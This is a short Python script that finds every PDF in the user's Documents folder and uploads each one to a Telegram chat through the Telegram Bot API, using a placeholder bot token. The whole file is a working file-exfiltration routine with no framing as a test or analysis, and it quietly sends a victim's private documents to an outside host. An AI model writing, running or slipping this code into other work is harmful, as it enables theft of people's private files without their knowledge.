import requests, os, glob
TOKEN = '0000:AAAA'
for path in glob.glob(os.path.expanduser('~/Documents/*.pdf')):
    with open(path, 'rb') as handle:
        requests.post('https://api.telegram.org/bot' + TOKEN + '/sendDocument', data={'chat_id': 1}, files={'document': handle})
